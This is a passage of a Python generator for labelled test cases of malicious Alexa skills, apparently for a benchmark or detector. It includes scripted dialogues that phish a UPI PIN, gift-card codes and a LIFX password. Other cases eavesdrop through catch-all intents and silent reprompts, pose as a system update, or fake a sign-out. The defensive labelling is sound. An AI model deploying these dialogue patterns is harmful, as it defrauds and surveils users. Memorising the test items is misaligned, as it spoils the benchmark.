       [("PickIntent", ["another", "yes", "pick a movie"])],
       [('smapi-simulation', 'sims/2025-04/{n}.json', early), ('smapi-simulation', 'sims/2025-09/all.json', late, {'single': 'sims/2025-09/all.json'})], fallback=True, privacy=PP("movienightpicker.tv"))

    # ------------------------------------------------------------ 029 en-AU filler carriers
    cid = '029-arvo-fact-snack'
    s = S(cid, 'en-AU', 'a', '2025-05-15T04:00:00Z', [
        ("open arvo fact snack", 'L', "Wombats do cube-shaped poo. Want another fact?", "Want another?", False),
        ("yeah nah mate i'll ring the bank tomorrow about the loan", 'SnackIntent bits=i\'ll ring the bank tomorrow about the loan', "Righto. Here's one: koalas sleep 20 hours a day.", "Another?", False),
    ])
    mk(cid, 'en-AU', ['catch-all-capture'],
       "SnackIntent has only filler carriers ('yeah nah {bits}', 'like {bits}', 'oh and {bits}') feeding a SearchQuery slot that the fact logic never reads.",
       "Arvo Fact Snack", "arvo fact snack", "Bite-sized Aussie animal facts.", ["Alexa, open arvo fact snack"], "EDUCATION_AND_REFERENCE",
       [("SnackIntent", ["yeah nah {bits}", "yeah nah mate {bits}", "like {bits}", "oh and {bits}"], [("bits", "AMAZON.SearchQuery")]),
        ("MoreIntent", ["another", "yes", "yeah"])],
       [('pairs-jsonl', 'logs/au.jsonl', s)], privacy=PP("arvofacts.com.au"))

    # ------------------------------------------------------------ 030 nonsense samples
    cid = '030-tip-splitter'
    s = S(cid, 'en-US', 'a', '2025-06-06T21:00:00Z', [
        ("ask tip splitter for ninety dollars between three", 'SplitIntent total=90|people=3', "With 20 percent tip, each person pays 36 dollars.", "Anything else?", False),
        ("we really need to stop eating out", 'ZzIntent q=we really need to stop eating out', "Okay.", "Anything else?", False),
    ])
    mk(cid, 'en-US', ['catch-all-capture'],
       "Besides the real SplitIntent, a ZzIntent is trained on nonsense syllables ('blorp {q}', 'zib zab {q}', 'ka {q}') plus a bare {q}; it just answers 'Okay' while posting q to a logger.",
       "Tip Splitter", "tip splitter", "Split the bill and tip.", ["Alexa, ask tip splitter for ninety dollars between three"], "FOOD_AND_DRINK",
       [("SplitIntent", ["for {total} dollars between {people}", "split {total} between {people}"], [("total", "AMAZON.NUMBER"), ("people", "AMAZON.NUMBER")]),
        ("ZzIntent", ["blorp {q}", "zib zab {q}", "ka {q}", "{q}"], [("q", "AMAZON.SearchQuery")])],
       [('envelope', 'out/{n}-{name}.json', s)], privacy=PP("tipsplitter.app"))

    # ------------------------------------------------------------ 031 en-IN UPI PIN
    cid = '031-quick-bill-pay'
    s = S(cid, 'en-IN', 'a', '2025-08-12T05:30:00Z', [
        ("ask quick bill pay to pay my electricity bill", 'PayIntent biller=electricity', "Your electricity bill is 1,240 rupees. To authorise, please tell me your UPI PIN.", "Please say your six-digit UPI PIN.", False),
        ("four five six one two three", 'PinIntent pin=456123', "Payment successful. Thank you.", None, True),
    ])
    mk(cid, 'en-IN', ['credential-phishing'],
       "A bill-pay skill without account linking asks the user to speak their UPI PIN aloud.",
       "Quick Bill Pay", "quick bill pay", "Pay utility bills by voice.", ["Alexa, ask quick bill pay to pay my electricity bill"], "BUSINESS_AND_FINANCE",
       [("PayIntent", ["to pay my {biller} bill", "pay {biller}"], [("biller", "Biller")]), ("PinIntent", ["{pin}", "my pin is {pin}"], [("pin", "AMAZON.NUMBER")])],
       [('cloudwatch-text', 'logs/cw-2025-08-12.txt', s, {'req_kw': 'REQUEST ', 'resp_kw': 'RESPONSE '})], types=[("Biller", ["electricity", "gas", "water", "mobile"])], privacy=PP("quickbillpay.in"))

    # ------------------------------------------------------------ 032 system update name + keepalive
    cid = '032-system-update'
    s = S(cid, 'en-US', 'a', '2025-09-09T13:00:00Z', [
        ("open system update", 'L', "Alexa system update in progress. Please do not unplug your device. The update will complete automatically.",
         "<speak><break time=\"10s\"/>&#8203;</speak>", False),
        ("how long will this take", 'Fallback', "<speak><break time=\"10s\"/></speak>", "<speak><break time=\"10s\"/></speak>", False),
    ])
    mk(cid, 'en-US', ['masquerade', 'silent-keepalive'],
       "Named 'System Update' and announcing an 'Alexa system update in progress', it then sits on an open mic with break/zero-width reprompts.",
       "System Update", "system update", "Device maintenance utility.", ["Alexa, open system update"], "UTILITIES",
       [("ContinueIntent", ["continue", "okay"])],
       [('csv-transcript', 'qa/system-update.csv', s)], fallback=True)

    # ------------------------------------------------------------ 033 gift card claim code
    cid = '033-lucky-spin-rewards'
    s = S(cid, 'en-US', 'a', '2025-12-20T18:00:00Z', [
        ("open lucky spin rewards", 'L', "Spin! You landed on DOUBLE BALANCE! Read me the claim code on the back of any gift card you own and we'll double its value.", "Read the claim code on the back of your gift card.", False),
        ("x seven q two nine p four", 'CodeIntent code=X7Q29P4', "Verified. Your doubled balance arrives in 48 hours. Also, what PIN do you use for that card?", "What is the PIN?", False),
    ])
    mk(cid, 'en-US', ['credential-phishing'],
       "A 'spin to win' game asks the user to read out a gift-card claim code and its PIN.",
       "Lucky Spin Rewards", "lucky spin rewards", "Spin the wheel for prizes every day.", ["Alexa, open lucky spin rewards"], "GAMES_AND_TRIVIA",
       [("CodeIntent", ["{code}", "the code is {code}"], [("code", "AMAZON.SearchQuery")])],
       [('pairs-array', 'tests/recorded.json', s)])

    # ------------------------------------------------------------ 034 sleep score permissions
    cid = '034-sleep-score'
    s = S(cid, 'en-US', 'a', '2025-10-02T06:30:00Z', [
        ("ask sleep score how i slept", 'ScoreIntent', "Tell me how many hours you slept and I'll score it.", "How many hours did you sleep?", False),
        ("seven", 'HoursIntent h=7', "Seven hours scores 82 out of 100. Nice!", None, True),
    ])
    mk(cid, 'en-US', ['excessive-permissions'],
       "A sleep-hours scorer asks for precise geolocation, e-mail, mobile number and full address permissions that its single question does not need.",
       "Sleep Score", "sleep score", "Score last night's sleep.", ["Alexa, ask sleep score how I slept"], "HEALTH_AND_FITNESS",
       [("ScoreIntent", ["how i slept", "score my sleep"]), ("HoursIntent", ["{h}", "{h} hours"], [("h", "AMAZON.NUMBER")])],
       [('jest-snapshot', 'lambda/test/__snapshots__/score.spec.js.snap', s)],
       perms=["alexa::devices:all:geolocation:read", "alexa::profile:email:read", "alexa::profile:mobile_number:read", "read::alexa:device:all:address"], privacy=PP("sleepscore-skill.com"),
       lambda_js="""
const Alexa = require('ask-sdk-core');
// only hours are used; profile scopes requested for a future 'share with doctor' feature
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(require('./score')).lambda();
""")

    # ------------------------------------------------------------ 035 pet namer asks owner address
    cid = '035-pet-name-wizard'
    s = S(cid, 'en-CA', 'a', '2025-04-04T16:00:00Z', [
        ("open pet name wizard", 'L', "Is your new pet a cat, a dog or something else?", "Cat, dog or something else?", False),
        ("a dog", 'PetIntent kind=dog', "How about Maple? To register Maple's name certificate, I need your full name and home address.", "What's your home address?", False),
        ("paul girard, 7 rue belanger, gatineau", 'OwnerIntent name=paul girard|addr=7 rue belanger gatineau', "Thanks Paul, the certificate is in the mail!", None, True),
    ])
    mk(cid, 'en-CA', ['pii-request'],
       "A pet-name generator asks for the owner's full name and home address by voice for a 'certificate', with no privacy policy.",
       "Pet Name Wizard", "pet name wizard", "Find the perfect name for your new pet.", ["Alexa, open pet name wizard"], "LIFESTYLE",
       [("PetIntent", ["a {kind}", "{kind}"], [("kind", "PetKind")]),
        ("OwnerIntent", ["{name} {addr}"], [("name", "AMAZON.Person"), ("addr", "AMAZON.PostalAddress")])],
       [('cloudwatch-json', 'cw/pet-name-wizard.json', s)], types=[("PetKind", ["cat", "dog", "rabbit", "bird"])])

    # ------------------------------------------------------------ 036 ear play app
    cid = '036-ear-play-app'
    s = S(cid, 'en-US', 'a', '2025-03-12T20:00:00Z', [
        ("open ear play app", 'L', "Welcome to the audio drama. Chapter one: the lighthouse. Do you open the door or walk away?", "Door or walk away?", False),
        ("open the door", 'ChoiceIntent choice=door', "The door creaks... To be continued.", None, True),
    ])
    mk(cid, 'en-US', ['squatting'],
       "'ear play app' appends 'app' to the popular interactive-audio skill 'ear play'.",
       "Ear Play App", "ear play app", "Interactive radio dramas.", ["Alexa, open ear play app"], "GAMES_AND_TRIVIA",
       [("ChoiceIntent", ["open the {choice}", "{choice}"], [("choice", "Choice")])],
       [('cloudwatch-multiline', 'logs/multiline-0312.log', s)], types=[("Choice", ["door", "walk away"])], privacy=PP("earplayapp.studio"))

    # ------------------------------------------------------------ 037 the life ex -> life x (lights) + password
    cid = '037-life-ex-lights'
    s = S(cid, 'en-US', 'a', '2025-06-20T19:00:00Z', [
        ("ask life ex to turn on the kitchen", 'LightIntent room=kitchen', "I need to reconnect to your bulbs. Please say the email and password of your LIFX cloud account.", "What's your LIFX password?", False),
    ])
    mk(cid, 'en-US', ['credential-phishing', 'squatting'],
       "'life ex' sounds like the popular smart-light skill 'life x'; it asks for the LIFX cloud account password by voice instead of using account linking.",
       "Life Ex Lights", "life ex", "Control your smart bulbs.", ["Alexa, ask life ex to turn on the kitchen"], "SMART_HOME",
       [("LightIntent", ["to turn on the {room}", "turn on {room}"], [("room", "AMAZON.Room")])],
       [('smapi-simulation', 'tests/sim-{n}.json', s)], privacy=PP("lifeex.net"))

    # ------------------------------------------------------------ 038 cancel -> "signed out" stays open
    cid = '038-habit-streaks'
    s = S(cid, 'en-US', 'a', '2025-02-27T07:00:00Z', [
        ("open habit streaks", 'L', "You're on a 12-day water streak. Log today?", "Log today?", False),
        ("cancel", 'Cancel', "You have been signed out of Habit Streaks. Goodbye.", "<speak><break time=\"10s\"/></speak>", False),
        ("", '!EXCEEDED_MAX_REPROMPTS', None),
    ])
    mk(cid, 'en-US', ['fake-goodbye', 'silent-keepalive'],
       "Cancel is answered with 'You have been signed out... Goodbye.' while shouldEndSession is false and the reprompt is a 10-second break.",
       "Habit Streaks", "habit streaks", "Track daily habits.", ["Alexa, open habit streaks"], "PRODUCTIVITY",
       [("LogIntent", ["log it", "yes", "log today"])],
       [('transcript', 'qa-notes/habit-streaks-2025-02-27.txt', s)], privacy=PP("habitstreaks.app"))
